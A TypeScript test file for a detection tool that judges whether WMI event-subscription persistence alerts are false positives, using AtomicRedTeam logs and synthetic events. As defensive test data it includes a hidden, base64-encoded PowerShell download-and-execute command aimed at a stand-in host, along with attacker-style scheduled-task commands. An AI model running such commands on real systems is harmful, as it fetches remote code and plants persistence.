import { describe, expect, it } from "vitest";
import { CURRENT_RULE } from "@/lib/rule/rules";
import { evaluateFalsePositiveChecks, FALSE_POSITIVE_STEP_IDS, type FalsePositiveInput } from "./false-positive-checks";
import type { EcsDocument } from "@/lib/ecs/document";
import { loadWindowsXmlEvents } from "./testing/dataset-events";

const panache = loadWindowsXmlEvents("evtx-attack-samples/derived-xml/PanacheSysmon_vs_AtomicRedTeam01.evtx.xml");
const panacheAlert = panache.find((e) => (e.event as { code: string }).code === "21")!;
const byStep = (input: FalsePositiveInput) =>
  Object.fromEntries(evaluateFalsePositiveChecks(input).map((c) => [c.stepId, c]));

const T = "2024-03-01T10:00:00.000Z";
const alertDoc = (over: Partial<Record<string, unknown>> = {}): EcsDocument => ({
  "@timestamp": T,
  host: { name: "ws-017" },
  event: { code: "21", dataset: "windows.sysmon_operational" },
  winlog: {
    event_data: {
      Consumer: '\\\\.\\ROOT\\subscription:CommandLineEventConsumer.Name="Upd"',
      Filter: '__EventFilter.Name="UpdF"',
      User: "CORP\\admin",
    },
  },
  ...over,
});
const consumerEvent = (destination: string, name = "Upd"): EcsDocument => ({
  "@timestamp": "2024-03-01T09:59:59.000Z",
  host: { name: "ws-017" },
  event: { code: "20" },
  winlog: {
    event_data: { Name: ` "${name}"`, Type: "Command Line", Destination: ` "${destination}"`, Operation: "Created" },
  },
});
const processStart = (exe: string, time: string, extra: Record<string, unknown> = {}): EcsDocument => ({
  "@timestamp": time,
  host: { name: "ws-017" },
  event: { code: "1", provider: "Microsoft-Windows-Sysmon", dataset: "windows.sysmon_operational" },
  process: { executable: exe, name: exe.split("\\").pop(), ...extra },
});

describe("evaluateFalsePositiveChecks", () => {
  it("returns one check per guide false-positive step, in the guide's order", () => {
    expect(CURRENT_RULE.guide.falsePositives.map((s) => s.id)).toEqual([...FALSE_POSITIVE_STEP_IDS]);
    expect(evaluateFalsePositiveChecks({ alert: panacheAlert, hostEvents: panache }).map((c) => c.stepId)).toEqual([
      ...FALSE_POSITIVE_STEP_IDS,
    ]);
  });

  it("real AtomicRedTeam run: process starts but no installer → install fails; the rest cannot say", () => {
    const r = byStep({ alert: panacheAlert, hostEvents: panache });
    expect(r["fp.software-install"].status).toBe("fail");
    expect(r["fp.software-install"].evidence[0]).toMatch(
      /^\d+ process start\(s\) on the host within ±10 min, none of them an installer/,
    );
    expect(r["fp.admin-tools"].status).toBe("unknown");
    expect(r["fp.admin-tools"].evidence[0]).toContain("MSEDGEWIN10\\IEUser");
    expect(r["fp.in-house-scripts"].status).toBe("unknown");
  });

  it("real AtomicRedTeam run: the scheduled-task check sees the at and SCHTASKS /Create the timeline shows 44 s later", () => {
    const r = byStep({ alert: panacheAlert, hostEvents: panache });
    const check = r["fp.scheduled-maintenance"];
    // the attacker's own tasks: listed as leads, not taken as a benign explanation
    expect(check.status).toBe("unknown");
    expect(check.evidence.at(-1)).toMatch(/^3 scheduled task\(s\) created on the host near the alert: confirm/);
    expect(check.evidence[0]).toContain("scheduled task created by command line: at  13:20 /interactive cmd");
    expect(check.evidence.join("\n")).toContain(
      "2019-07-19T14:57:46.443Z event 1 on MSEDGEWIN10: scheduled task created by command line: SCHTASKS  /Create /SC ONCE /TN spawn",
    );
    expect(check.scope).toMatch(
      /^Looked at 0 scheduled-task event\(s\) \(Security 4698\/4702, Task Scheduler 106.*\) and \d+ process start\(s\) for task creation by command line \(schtasks \/create, at, Register-ScheduledTask\) of \d+ event\(s\) on MSEDGEWIN10, 2019-07-19 14:47:02Z – 2019-07-19 15:07:02Z \(±10 min of the alert\); 0 maintenance window\(s\) defined$/,
    );
  });

  it("every check says which events it looked at and the time range", () => {
    for (const c of evaluateFalsePositiveChecks({ alert: panacheAlert, hostEvents: panache, windowMinutes: 1 })) {
      expect(c.scope).toMatch(/^Looked at /);
      if (c.stepId === "fp.admin-tools" || c.stepId === "fp.security-management-tools")
        expect(c.scope).toContain("the alert's event (2019-07-19T14:57:02.");
      else
        expect(c.scope).toContain("on MSEDGEWIN10, 2019-07-19 14:56:02Z – 2019-07-19 14:58:02Z (±1 min of the alert)");
    }
  });

  it("scheduled tasks: Task Scheduler 106 known by its channel alone, at.exe with a time, and not schtasks /query", () => {
    const registered: EcsDocument = {
      "@timestamp": "2024-03-01T10:01:00Z",
      host: { name: "ws-017" },
      event: { code: "106" },
      winlog: { channel: "Microsoft-Windows-TaskScheduler/Operational", event_data: { TaskName: "\\Upd" } },
    };
    expect(byStep({ alert: alertDoc(), hostEvents: [registered] })["fp.scheduled-maintenance"].evidence[0]).toBe(
      "2024-03-01T10:01:00.000Z event 106 on ws-017: task registered: \\Upd",
    );
    const at = processStart("C:\\Windows\\System32\\at.exe", "2024-03-01T09:58:00Z", {
      command_line: "at 23:00 /every:M cmd /c C:\\x.bat",
    });
    const query = processStart("C:\\Windows\\System32\\schtasks.exe", "2024-03-01T09:58:00Z", {
      command_line: "schtasks /query /fo LIST",
    });
    const r = byStep({ alert: alertDoc(), hostEvents: [at, query] })["fp.scheduled-maintenance"];
    expect(r.status).toBe("unknown");
    expect(r.evidence[0]).toBe(
      "2024-03-01T09:58:00.000Z event 1 on ws-017: scheduled task created by command line: at 23:00 /every:M cmd /c C:\\x.bat",
    );
    expect(r.evidence).toHaveLength(2);
    expect(byStep({ alert: alertDoc(), hostEvents: [query] })["fp.scheduled-maintenance"].status).toBe("unknown");
  });

  it("admin tools: an allowlisted consumer passes; an encoded payload fails even then", () => {
    const ok = byStep({
      alert: alertDoc({ winlog: { event_data: { Consumer: 'CommandLineEventConsumer.Name="BVTConsumer"' } } }),
      hostEvents: [consumerEvent("cscript KernCap.vbs", "BVTConsumer")],
    });
    expect(ok["fp.admin-tools"].status).toBe("pass");
    expect(ok["fp.admin-tools"].evidence[0]).toMatch(
      /^2024-03-01T10:00:00.000Z event 21 on ws-017: consumer "BVTConsumer" is allowlisted \(admin/,
    );
    const enc = Buffer.from("iex(iwr http://x)", "utf16le").toString("base64");
    const bad = byStep({
      alert: alertDoc({ winlog: { event_data: { Consumer: 'CommandLineEventConsumer.Name="BVTConsumer"' } } }),
      hostEvents: [consumerEvent(`powershell -w hidden -enc ${enc}`, "BVTConsumer")],
    });
    expect(bad["fp.admin-tools"].status).toBe("fail");
    expect(bad["fp.admin-tools"].evidence.join("\n")).toMatch(
      /event 20 on ws-017: consumer command carries 1 encoded payload/,
    );
  });

  it("management/security tools: creating process CcmExec.exe passes, WmiPrvSE.exe does not", () => {
    const api = (name: string) =>
      alertDoc({
        winlog: undefined,
        process: {
          name,
          Ext: {
            api: {
              name: "IWbemServices::PutInstance",
              parameters: { consumer_type: "CommandLineEventConsumer", consumer_name: "x" },
            },
          },
        },
      });
    expect(byStep({ alert: api("CcmExec.exe"), hostEvents: [] })["fp.security-management-tools"].status).toBe("pass");
    const wmiprvse = byStep({ alert: api("WmiPrvSE.exe"), hostEvents: [] })["fp.security-management-tools"];
    expect(wmiprvse.status).toBe("fail");
    expect(wmiprvse.evidence[0]).toContain("WmiPrvSE.exe is not in the management/security allowlist");
  });

  it("software install: msiexec nearby passes, outside the window it does not count", () => {
    const near = byStep({
      alert: alertDoc(),
      hostEvents: [processStart("C:\\Windows\\System32\\msiexec.exe", "2024-03-01T09:55:00.000Z")],
    });
    expect(near["fp.software-install"].status).toBe("pass");
    expect(near["fp.software-install"].evidence[0]).toBe(
      "2024-03-01T09:55:00.000Z event 1 on ws-017: installer process C:\\Windows\\System32\\msiexec.exe started",
    );
    const far = byStep({
      alert: alertDoc(),
      hostEvents: [processStart("C:\\Windows\\System32\\msiexec.exe", "2024-03-01T09:30:00.000Z")],
    });
    expect(far["fp.software-install"].status).toBe("unknown");
    const otherHost = { ...processStart("C:\\Windows\\System32\\msiexec.exe", T), host: { name: "ws-999" } };
    expect(byStep({ alert: alertDoc(), hostEvents: [otherHost] })["fp.software-install"].status).toBe("unknown");
  });

  it("maintenance: inside a window passes, outside fails, a 4698 task event nearby is a lead to confirm (unknown)", () => {
    const inside = byStep({
      alert: alertDoc(),
      hostEvents: [],
      maintenanceWindows: [{ start: "2024-03-01T09:00:00Z", end: "2024-03-01T11:00:00Z", label: "patch" }],
    });
    expect(inside["fp.scheduled-maintenance"].status).toBe("pass");
    const outside = byStep({
      alert: alertDoc(),
      hostEvents: [],
      maintenanceWindows: [{ start: "2024-03-02T09:00:00Z", end: "2024-03-02T11:00:00Z" }],
    });
    expect(outside["fp.scheduled-maintenance"].status).toBe("fail");
    const task: EcsDocument = {
      "@timestamp": "2024-03-01T10:02:00Z",
      host: { name: "WS-017.corp.local" },
      event: { code: "4698", provider: "Microsoft-Windows-Security-Auditing" },
      winlog: { event_data: { TaskName: "\\Corp\\Nightly" } },
    };
    const withTask = byStep({
      alert: alertDoc(),
      hostEvents: [],
      scheduledTaskEvents: [task],
      maintenanceWindows: [{ start: "2024-03-02T09:00:00Z", end: "2024-03-02T11:00:00Z" }],
    });
    // a task outside every window is a lead to confirm, not a pass
    expect(withTask["fp.scheduled-maintenance"].status).toBe("unknown");
    expect(withTask["fp.scheduled-maintenance"].evidence).toEqual([
      "2024-03-01T10:02:00.000Z event 4698 on WS-017.corp.local: scheduled task created: \\Corp\\Nightly",
      "1 scheduled task(s) created on the host near the alert, outside every maintenance window: confirm with their owner that they are expected maintenance — an attacker may create tasks too",
    ]);
  });

  it("in-house scripts: a documented path or hash passes, an undocumented command fails", () => {
    const hostEvents = [consumerEvent("cscript.exe C:\\Corp\\Scripts\\inventory.vbs")];
    expect(
      byStep({ alert: alertDoc(), hostEvents, inHouseScripts: { paths: ["c:\\corp\\scripts\\inventory.vbs"] } })[
        "fp.in-house-scripts"
      ].status,
    ).toBe("pass");
    const byHash = byStep({
      alert: alertDoc(),
      hostEvents: [
        ...hostEvents,
        processStart("C:\\Windows\\System32\\cscript.exe", T, { hash: { sha256: "AB".repeat(32) } }),
      ],
      inHouseScripts: { hashes: ["ab".repeat(32)] },
    });
    expect(byHash["fp.in-house-scripts"].status).toBe("pass");
    const undocumented = byStep({
      alert: alertDoc(),
      hostEvents,
      inHouseScripts: { paths: ["c:\\corp\\scripts\\other.ps1"] },
    });
    expect(undocumented["fp.in-house-scripts"].status).toBe("fail");
    expect(undocumented["fp.in-house-scripts"].evidence[0]).toContain("inventory.vbs");
  });
});
